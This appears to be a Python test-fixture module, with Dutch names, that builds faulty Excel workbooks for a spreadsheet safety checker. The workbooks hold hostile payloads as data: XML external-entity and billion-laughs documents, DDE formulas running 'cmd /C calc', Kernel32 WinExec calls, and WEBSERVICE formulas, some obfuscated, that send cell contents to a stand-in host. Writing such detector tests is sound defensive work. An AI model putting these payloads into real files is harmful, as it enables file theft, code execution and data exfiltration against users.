"""Workbooks with one fault in their parts: unsafe XML, no workbook to be found, or something that acts by itself."""

from __future__ import annotations

from gevaarlijk_bouw import (
    HEADER,
    MAIN,
    OFFICE,
    OLE,
    Fout,
    Parts,
    blad,
    boek,
    formule,
    inpakken,
    met_type,
    naam,
    onderdelen,
    relaties,
    werkboek,
    xml,
)

FOUTEN: dict[str, Fout] = {}


def vast(name: str, code: str, parts: Parts, plaats: str = "") -> None:
    """A fixture that only adds or replaces parts."""
    FOUTEN[name] = Fout(lambda: werkboek(parts), code, plaats)


# ── XML ───────────────────────────────────────────────────────────────────────────────────────────────────────────

_DOCTYPE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
_LACHERS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "lol">'
    + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    + "]><a>&a9;</a>"
)
vast("doctype", "RK125", {"xl/theme/theme1.xml": _DOCTYPE.encode()}, "xl/theme/theme1.xml")
vast(
    "doctype_in_een_blad",
    "RK125",
    {"xl/worksheets/sheet1.xml": b"<!DOCTYPE worksheet>" + blad().removeprefix(HEADER.encode())},
    "sheet1.xml",
)
vast(
    "doctype_in_een_svg",
    "RK125",
    {"xl/media/a.svg": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" ""><svg/>'},
    "a.svg",
)
vast("doctype_in_utf16", "RK125", {"xl/theme/theme1.xml": _DOCTYPE.encode("utf-16")}, "theme1.xml")
vast("doctype_in_utf16_zonder_bom", "RK125", {"xl/theme/theme1.xml": _DOCTYPE.encode("utf-16-be")}, "theme1.xml")
vast("doctype_met_vreemde_extensie", "RK125", {"xl/media/plaatje.dat": _DOCTYPE.encode()}, "plaatje.dat")
vast("doctype_zonder_extensie_in_utf16", "RK125", {"xl/media/plaatje": _DOCTYPE.encode("utf-16")}, "plaatje")
vast("doctype_na_witruimte", "RK125", {"xl/media/a.dat": b" \n" * 99 + b"<!DOCTYPE a><a/>"}, "a.dat")
vast("doctype_na_slordige_vml", "RK125", {"xl/drawings/v.vml": b"<xml><br><!DOCTYPE a></xml>"}, "v.vml")
vast("miljard_lachers", "RK125", {"xl/styles.xml": _LACHERS.encode()}, "xl/styles.xml")
vast(
    "bestand_van_buiten_als_entiteit",
    "RK125",
    {"xl/theme/theme1.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'},
    "theme1.xml",
)
vast("lijst_van_onderdelen_met_doctype", "RK125", {"[Content_Types].xml": _DOCTYPE.encode()}, "[Content_Types].xml")
vast("xml_niet_gesloten", "RK126", {"xl/worksheets/sheet1.xml": blad()[:-3]}, "sheet1.xml")
vast("xml_met_losse_ampersand", "RK126", {"xl/worksheets/sheet1.xml": formule("A1 & B1")}, "sheet1.xml")
vast("xml_met_onbekend_voorvoegsel", "RK126", {"xl/theme/theme1.xml": xml("<a:b/>")}, "theme1.xml")
vast("xml_met_dubbel_attribuut", "RK126", {"xl/theme/theme1.xml": xml('<a b="1" b="2"/>')}, "theme1.xml")
vast("xml_leeg", "RK126", {"xl/theme/theme1.xml": b""}, "theme1.xml")
vast("xml_na_het_einde", "RK126", {"xl/theme/theme1.xml": xml("<a/><b/>")}, "theme1.xml")
vast("xml_met_ongeldige_utf8", "RK126", {"xl/theme/theme1.xml": xml("<a>") + b"\xff\xfe</a>"}, "theme1.xml")
vast(
    "codering_utf7",
    "RK127",
    {"xl/theme/theme1.xml": b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-</a>'},
    "theme1.xml",
)
vast("codering_latin1", "RK127", {"xl/media/a.dat": b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>'}, "a.dat")

# ── a workbook? ───────────────────────────────────────────────────────────────────────────────────────────────────


def zonder(name: str) -> bytes:
    return inpakken({key: value for key, value in onderdelen().items() if key != name})


FOUTEN["geen_lijst_van_onderdelen"] = Fout(lambda: zonder("[Content_Types].xml"), "RK128")
FOUTEN["geen_pakketrelaties"] = Fout(lambda: zonder("_rels/.rels"), "RK129", "_rels/.rels")
FOUTEN["geen_werkboekonderdeel"] = Fout(lambda: zonder("xl/workbook.xml"), "RK129", "xl/workbook.xml")
FOUTEN["blad_ontbreekt"] = Fout(lambda: zonder("xl/worksheets/sheet1.xml"), "RK131", "xl/workbook.xml")
_MAIN_TYPE = f"{OFFICE}.spreadsheetml.sheet.main+xml"
vast("onderdeel_met_twee_typen", "RK128", met_type("xl/workbook.xml", "application/xml"), "[Content_Types].xml")
vast(
    "pakketrelatie_van_een_andere_soort",
    "RK129",
    {"_rels/.rels": relaties(("rId1", "worksheet", "xl/workbook.xml", ""))},
)
vast("twee_werkboeken", "RK129", {**met_type("xl/workbook2.xml", _MAIN_TYPE), "xl/workbook2.xml": boek()})
vast(
    "tweede_werkboek_zonder_verwijzing",
    "RK129",
    {
        **{key: value.replace(b"xl/workbook.xml", b"xl/boek.xml") for key, value in onderdelen().items()},
        "xl/boek.xml": boek(),
        "xl/_rels/boek.xml.rels": onderdelen()["xl/_rels/workbook.xml.rels"],
    },
    "xl/workbook.xml",
)
vast("werkboek_zonder_bladen", "RK129", {"xl/workbook.xml": xml(f'<workbook xmlns="{MAIN}"/>')}, "xl/workbook.xml")
vast("werkboek_is_iets_anders", "RK129", {"xl/workbook.xml": xml("<feed/>")}, "xl/workbook.xml")
vast(
    "werkboek_met_verkeerd_type",
    "RK129",
    {"[Content_Types].xml": onderdelen()["[Content_Types].xml"].replace(_MAIN_TYPE.encode(), b"application/xml")},
    "xl/workbook.xml",
)
vast(
    "strict_open_xml",
    "RK130",
    {"xl/workbook.xml": boek().replace(MAIN.encode(), b"http://purl.oclc.org/ooxml/spreadsheetml/main")},
    "xl/workbook.xml",
)
vast(
    "relaties_met_hetzelfde_nummer",
    "RK132",
    {
        "xl/_rels/workbook.xml.rels": relaties(
            ("rId1", "styles", "styles.xml", ""), ("rId1", "worksheet", "worksheets/sheet1.xml", "")
        )
    },
    "xl/_rels/workbook.xml.rels",
)

# ── what acts by itself ───────────────────────────────────────────────────────────────────────────────────────────

_SHEET_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
_MS = "http://schemas.microsoft.com/office/2006/relationships"


def verwezen(type_: str, target: str, mode: str = "") -> Parts:
    """A relation of the sheet."""
    return {_SHEET_RELS: relaties(("rId9", type_, target, mode))}


vast("macro_aan_de_naam", "RK140", {"xl/vbaProject.bin": OLE}, "xl/vbaProject.bin")
vast(
    "macro_aan_het_type",
    "RK140",
    {**met_type("xl/a.dat", "application/vnd.ms-office.vbaProject"), "xl/a.dat": OLE},
    "xl/a.dat",
)
vast("macro_aan_de_relatie", "RK140", {**verwezen(f"{_MS}/vbaProject", "../a.dat"), "xl/a.dat": b"x"}, "xl/a.dat")
vast("macroblad_aan_de_naam", "RK141", {"xl/macrosheets/sheet1.xml": blad()}, "xl/macrosheets/sheet1.xml")
vast(
    "macroblad_aan_het_type",
    "RK141",
    {**met_type("xl/worksheets/s.xml", "application/vnd.ms-excel.macrosheet+xml"), "xl/worksheets/s.xml": blad()},
    "s.xml",
)
vast(
    "macroblad_aan_het_wortelelement",
    "RK141",
    {"xl/worksheets/s.xml": xml('<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>')},
    "s.xml",
)
vast("macro_die_zichzelf_start", "RK141", {"xl/workbook.xml": naam("'Blad 1'!$A$1", 'name="Auto_Open1"')}, "Auto_Open1")
vast("naam_van_een_macro", "RK141", {"xl/workbook.xml": naam("'Blad 1'!$A$1", 'name="Doe" xlm="1"')}, "Doe")
vast(
    "koppeling_met_ander_bestand",
    "RK142",
    {
        "xl/externalLinks/externalLink1.xml": xml(f'<externalLink xmlns="{MAIN}"><externalBook/></externalLink>'),
        "xl/externalLinks/_rels/externalLink1.xml.rels": relaties(
            ("rId1", "externalLinkPath", "file:///C:/a.xlsx", "External")
        ),
    },
    "externalLink1.xml",
)
vast("koppeling_aan_het_wortelelement", "RK142", {"xl/iets.xml": xml(f'<externalLink xmlns="{MAIN}"/>')}, "xl/iets.xml")
vast("afbeelding_van_internet", "RK143", verwezen("image", "http://voorbeeld.nl/teller.png", "External"), "rId9")
vast(
    "afbeelding_van_internet_zonder_dat_te_zeggen", "RK143", verwezen("image", "http://voorbeeld.nl/teller.png"), "rId9"
)
vast("sjabloon_van_een_server", "RK143", verwezen("attachedTemplate", "\\\\server\\map\\a.xltx", "External"), "rId9")
for _name, _target in {
    "link_naar_bestand": "file:///C:/Windows/System32/calc.exe",
    "link_naar_server": "\\\\server\\deel\\a.xlsx",
    "link_naar_bestand_ernaast": "overzicht.docm",
    "link_naar_pad_vanaf_de_wortel": "/deel/overzicht.xlsx",
    "link_naar_server_met_schuine_strepen": "//server/deel/a.xlsx",
    "link_met_script": "javascript:alert(1)",
    "link_naar_een_programma": "ms-word:ofe|u|http://voorbeeld.nl/a.docx",
    "link_zonder_adres": "http:\\\\server\\deel",
}.items():
    vast(_name, "RK144", verwezen("hyperlink", _target, "External"), "sheet1.xml, relatie rId9")
vast(
    "dde_koppeling",
    "RK145",
    {
        "xl/externalLinks/externalLink1.xml": xml(
            f'<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
        )
    },
    "externalLink1.xml",
)
vast(
    "dde_in_een_cel",
    "RK145",
    {"xl/worksheets/sheet1.xml": formule("cmd|&apos; /C calc&apos;!A0")},
    "sheet1.xml, 'Blad 1'!C4",
)
vast("dde_in_een_naam", "RK145", {"xl/workbook.xml": naam("cmd|'/C calc'!A0")}, "Hulp")
vast(
    "dde_in_een_opmaakregel",
    "RK145",
    {
        "xl/worksheets/sheet1.xml": blad(
            erna="<conditionalFormatting><cfRule><formula>cmd|'/C calc'!A0</formula></cfRule></conditionalFormatting>"
        )
    },
    "'Blad 1'",
)
vast("dde_van_libreoffice", "RK145", {"xl/worksheets/sheet1.xml": formule('DDE("soffice","a.ods","Blad1.A1")')}, "!C4")
for _name, _formula in {
    "webservice": '_xlfn.WEBSERVICE("http://voorbeeld.nl/?q="&amp;A1)',
    "webservice_in_kleine_letters": 'webservice("http://voorbeeld.nl")',
    "webservice_met_spatie": 'WEBSERVICE  ("http://voorbeeld.nl")',
    "webservice_met_tekenverwijzing": '&#87;EBSERVICE("http://voorbeeld.nl")',
    "webservice_met_commentaar_erin": 'WEB<!-- x -->SERVICE("http://voorbeeld.nl")',
    "webservice_in_cdata": '<![CDATA[WEBSERVICE("http://voorbeeld.nl")]]>',
    "webservice_met_instructie_erin": 'WEB<?x y?>SERVICE("http://voorbeeld.nl")',
    "webservice_als_waarde": 'LET(f,_xleta.WEBSERVICE,f("http://voorbeeld.nl"))',
    "filterxml": '1+_xlfn.FILTERXML(A1,"//a")',
    "afbeelding_ophalen": '_xlfn.IMAGE("http://voorbeeld.nl/a.png")',
    "rtd": 'RTD("mijn.server",,"a")',
    "call": 'CALL("Kernel32","WinExec","JCJ","calc",0)',
    "register_id": 'REGISTER.ID("Kernel32","WinExec")',
    "exec": 'EXEC("calc.exe")',
    "python": "_xlfn._xlws.PY(0,0)",
}.items():
    vast(_name, "RK146", {"xl/worksheets/sheet1.xml": formule(_formula)}, "xl/worksheets/sheet1.xml, 'Blad 1'!C4")
_WEB = '_xlfn.WEBSERVICE("http://voorbeeld.nl")'
vast("webservice_in_een_naam", "RK146", {"xl/workbook.xml": naam(_WEB)}, "xl/workbook.xml, Hulp")
vast(
    "webservice_in_een_validatie",
    "RK146",
    {
        "xl/worksheets/sheet1.xml": blad(
            erna=f"<dataValidations><dataValidation><formula1>{_WEB}</formula1></dataValidation></dataValidations>"
        )
    },
    "sheet1.xml, 'Blad 1'",
)
vast(
    "webservice_in_een_grafiek",
    "RK146",
    {"xl/charts/chart1.xml": xml(f'<c:chartSpace xmlns:c="http://c"><c:f>{_WEB}</c:f></c:chartSpace>')},
    "xl/charts/chart1.xml",
)
vast(
    "webservice_in_utf16",
    "RK146",
    {"xl/worksheets/sheet1.xml": formule(_WEB).decode().replace("UTF-8", "UTF-16").encode("utf-16")},
    "'Blad 1'!C4",
)
vast(
    "webservice_met_voorvoegsel",
    "RK146",
    {
        "xl/worksheets/sheet1.xml": xml(
            f'<x:worksheet xmlns:x="{MAIN}"><x:sheetData><x:row><x:c r="C4"><x:f>{_WEB}</x:f></x:c>'
            "</x:row></x:sheetData></x:worksheet>"
        )
    },
    "'Blad 1'!C4",
)
vast(
    "webservice_in_de_tienduizendste_formule",
    "RK146",
    {
        "xl/worksheets/sheet1.xml": blad(
            "".join(f'<c r="A{i}"><f>SUM(B{i}:C{i})</f></c>' for i in range(1, 10_000))
            + f'<c r="A10000"><f>{_WEB}</f></c>'
        )
    },
    "'Blad 1'!A10000",
)
vast(
    "onschuldige_formule_van_dezelfde_vorm_ervoor",
    "RK146",
    {
        "xl/worksheets/sheet1.xml": blad(
            '<c r="A1"><f>CA1LL("a")</f></c><c r="A2"><f>CALL("a")</f></c><c r="A3"><f>[0]!x</f></c>'
        )
    },
    "'Blad 1'!A2",
)
vast("ingesloten_werkboek", "RK147", {"xl/embeddings/Werkboek.xlsx": werkboek()}, "xl/embeddings/Werkboek.xlsx")
vast("ingesloten_object_als_afbeelding", "RK147", {"xl/media/image1.png": OLE + bytes(504)}, "xl/media/image1.png")
vast("ingesloten_object_aan_de_relatie", "RK147", {**verwezen("oleObject", "../a.dat"), "xl/a.dat": b"x"}, "xl/a.dat")
vast(
    "object_van_een_server", "RK147", verwezen("oleObject", "file:///server/a.doc", "External"), "file:///server/a.doc"
)
vast(
    "ingesloten_document_aan_het_type",
    "RK147",
    {**met_type("xl/a.dat", f"{OFFICE}.wordprocessingml.document"), "xl/a.dat": b"x"},
    "xl/a.dat",
)
vast("activex", "RK148", {"xl/activeX/activeX1.xml": xml("<ocx/>"), "xl/activeX/activeX1.bin": OLE}, "activeX1")
vast("activex_aan_de_relatie", "RK148", {**verwezen("control", "../a.xml"), "xl/a.xml": xml("<a/>")}, "xl/a.xml")
vast("gegevensverbinding", "RK149", {"xl/connections.xml": xml(f'<connections xmlns="{MAIN}"/>')}, "xl/connections.xml")
vast("querytabel", "RK149", {"xl/queryTables/queryTable1.xml": xml(f'<queryTable xmlns="{MAIN}"/>')}, "queryTable1.xml")
vast("gegevensmodel", "RK149", {"xl/model/item.data": b"x"}, "xl/model/item.data")
vast(
    "power_query",
    "RK149",
    {
        "customXml/item1.xml": (
            '<?xml version="1.0" encoding="utf-16"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA=</DataMashup>'
        ).encode("utf-16")
    },
    "customXml/item1.xml",
)
vast("eigen_lint", "RK150", {"customUI/customUI14.xml": xml('<customUI onLoad="Doe"/>')}, "customUI14.xml")
vast(
    "eigen_lint_aan_de_relatie",
    "RK150",
    {
        "_rels/.rels": relaties(
            ("rId1", "officeDocument", "xl/workbook.xml", ""), ("rId2", f"{_MS}/ui/extensibility", "docProps/a.xml", "")
        ),
        "docProps/a.xml": xml("<a/>"),
    },
    "docProps/a.xml",
)
vast(
    "webextensie",
    "RK151",
    {"xl/webextensions/webextension1.xml": xml("<we:webextension xmlns:we='http://w'/>")},
    "webextension1.xml",
)
for _name, _formula in {
    "verwijzing_naar_gekoppeld_werkboek": "[1]Blad1!$A$1",
    "verwijzing_naar_naam_in_ander_werkboek": "SUM([1]!bedrag)",
    "verwijzing_met_pad": "'C:\\map\\[boek.xlsx]Blad 1'!A1",
    "verwijzing_met_webadres": "'http://voorbeeld.nl/[boek.xlsx]Blad 1'!A1",
    "verwijzing_naar_bestandsnaam": "1+[boek.xlsx]Blad1!A1",
}.items():
    vast(_name, "RK152", {"xl/worksheets/sheet1.xml": formule(_formula)}, "'Blad 1'!C4")
